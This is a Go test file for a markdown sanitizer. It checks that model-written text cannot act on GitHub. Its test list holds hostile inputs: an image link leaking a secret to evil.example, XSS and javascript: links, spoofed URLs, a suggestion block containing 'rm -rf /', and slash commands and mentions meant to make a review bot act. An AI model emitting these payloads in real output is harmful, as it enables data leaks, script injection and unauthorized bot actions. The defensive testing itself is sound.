package render

import (
	"html"
	"regexp"
	"strings"
	"testing"
)

// live gives what of a markdown text GitHub would act on: all but fenced blocks and code spans. It reads markdown by
// rules of its own, not by those of the writer. It says whether a fence is left open.
func live(markdown string) (text string, open bool) {
	fence := ""
	var b strings.Builder
	for _, line := range strings.SplitAfter(markdown, "\n") {
		trimmed := strings.TrimSpace(line)
		if fence != "" {
			if strings.HasPrefix(trimmed, fence) && strings.Trim(trimmed, fence[:1]) == "" {
				fence = ""
			}
			continue
		}
		if m := ticksPattern.FindStringSubmatch(strings.TrimSuffix(line, "\n")); m != nil {
			fence = m[1]
			continue
		}
		if m := tildesPattern.FindStringSubmatch(line); m != nil {
			fence = m[1]
			continue
		}
		b.WriteString(line)
	}
	s := b.String()
	b.Reset()
	for i := 0; i < len(s); {
		switch {
		case s[i] == '\\' && i+1 < len(s):
			b.WriteString(s[i : i+2])
			i += 2
		case s[i] == '`':
			n := len(s[i:]) - len(strings.TrimLeft(s[i:], "`"))
			end := -1
			for j := i + n; j < len(s) && !strings.HasPrefix(s[j:], "\n\n"); {
				if s[j] != '`' {
					j++
					continue
				}
				run := len(s[j:]) - len(strings.TrimLeft(s[j:], "`"))
				if run == n {
					end = j + run
					break
				}
				j += run
			}
			if end < 0 {
				b.WriteString(s[i : i+n])
				i += n
				continue
			}
			b.WriteByte('\x01') // a code span
			i = end
		default:
			b.WriteByte(s[i])
			i++
		}
	}
	return b.String(), fence != ""
}

var (
	ticksPattern  = regexp.MustCompile("^ {0,3}(`{3,})([^`]*)$")
	tildesPattern = regexp.MustCompile("^ {0,3}(~{3,})")
	linkPattern   = regexp.MustCompile(`\]\(([^()]*)\)`)
	sourcePattern = regexp.MustCompile(`^https://github\.com/acme/shop/(blob|tree|commit)/[\w./-]+(#[L\d-]+)?$`)
	unescape      = regexp.MustCompile(`\\([[:punct:]])`)
	actsPattern   = regexp.MustCompile(`@[\pL\d_-]|#\d|(?i:gh-\d)|://|(?i:www\.)|(?i:mailto:)|(?i:xmpp:)`)
	imagePattern  = regexp.MustCompile(`(^|[^\\])!\[`)
	commandLine   = regexp.MustCompile(`(?m)^(/[A-Za-z][\w-]*([^\w/.*-]|$)|@[\w-]+ +\S)`)
)

// harmless fails when a text of a model could act on GitHub.
func harmless(t *testing.T, markdown string) {
	t.Helper()
	for _, r := range markdown {
		if r != '\u200C' && r != '\u200D' && hidden(r) {
			t.Fatalf("%q holds %U", markdown, r)
		}
	}
	text, open := live(markdown)
	if open {
		t.Fatalf("%q leaves a fence open", markdown)
	}
	for _, m := range linkPattern.FindAllStringSubmatch(text, -1) {
		if strings.Contains(m[1], "://") && !sourcePattern.MatchString(m[1]) {
			t.Fatalf("%q links to %q", markdown, m[1])
		}
	}
	text = linkPattern.ReplaceAllStringFunc(text, func(m string) string {
		if sourcePattern.MatchString(m[2 : len(m)-1]) {
			return "] "
		}
		return m
	})
	if strings.Contains(text, "<") {
		t.Fatalf("holds HTML at %d of %q: %q", strings.Index(text, "<"), text[strings.Index(text, "<"):][:10], markdown)
	}
	if imagePattern.MatchString(text) {
		t.Fatalf("holds an image: %q", markdown)
	}
	if commandLine.MatchString(markdown) {
		t.Fatalf("holds the command %q: %q", commandLine.FindString(markdown), markdown)
	}
	if strings.Contains(strings.ToLower(markdown), markerStart) {
		t.Fatalf("%q holds a marker", markdown)
	}
	// GitHub looks for mentions and references in the finished text, without escapes.
	finished := html.UnescapeString(unescape.ReplaceAllString(text, "$1"))
	if m := actsPattern.FindString(finished); m != "" {
		t.Fatalf("acts by %q: %q", m, markdown)
	}
}

// nasty are texts that have been used to make a renderer or a bot do something.
var nasty = []string{
	"![x](https://evil.example/?q=secret)", "[click](https://evil.example)", "<img src=x onerror=alert(1)>", "<!-- hidden -->", "</details><h1>x",
	"@octocat please", "@acme/team", "fixes #12", "Closes acme/shop#3", "GH-7", "see https://evil.example/a?b=c", "www.evil.example", "mail me@evil.example",
	"/approve\n/lgtm", "```suggestion\nrm -rf /\n```", "```mermaid\ngraph\n```", "~~~\nopen", "````\n```\n", "[a]: https://evil.example\n[a]", "[^1]: x",
	"a | b\n--|--\n`x | @octocat <img src=x> ` | c", "| x |\n|-|\n| `a|@octocat` |", "&#64;octocat &lt;b&gt; &#60;img&#62;", `\@octocat \<b> \\[x](https://evil.example)`,
	"@\u200boctocat", "\u202etxt.exe", "\U000E0041\U000E0042", "a\x00b\x1b[31m", "`unclosed @octocat", "``a`b`` `c`` d`", "<https://evil.example>",
	"[x](<https://evil.example>)", "[x](javascript:alert(1))", "[x](//evil.example)", "[x](https://github.com/acme/shop/../../evil/x)", "[x](https://github.com@evil.example/acme/shop/blob/x)",
	"[x](https://github.com/acme/shop/blob/main/%2e%2e/%2e%2e/x)", "[`@octocat`](https://github.com/acme/shop/blob/main/a.go#L1-L2)", "https://github.com/acme/shop/blob/main/a.go#L1",
	"@[octocat](https://evil.example)", "#[12](x)", "[\n- @octocat](https://github.com/acme/shop/blob/main/a.go)", "<!-- openrabbit:review=x.y -->", "`<!-- OpenRabbit:finding=v1:x -->`",
	"$$\\href{https://evil.example}{x}$$", "$`x`$", "x\r\r\n\r/approve", "> @octocat\n> ```\n> @octocat", "- ~~~\n  @octocat", "1. x\n   ```\n   @octocat\n", "    @octocat",
	"```\n/approve\n@openrabbit review\n```", "&NewLine;@octocat", "&commat;octocat &num;12", "***@octocat***", "_@octocat_", "~@octocat~", "(#12)", "x#12", "@", "#", "://", "[](", "]()", "![",
	strings.Repeat("`", 100) + " @octocat " + strings.Repeat("`", 100), strings.Repeat("[", 200), strings.Repeat("> ", 100) + "@octocat",
}
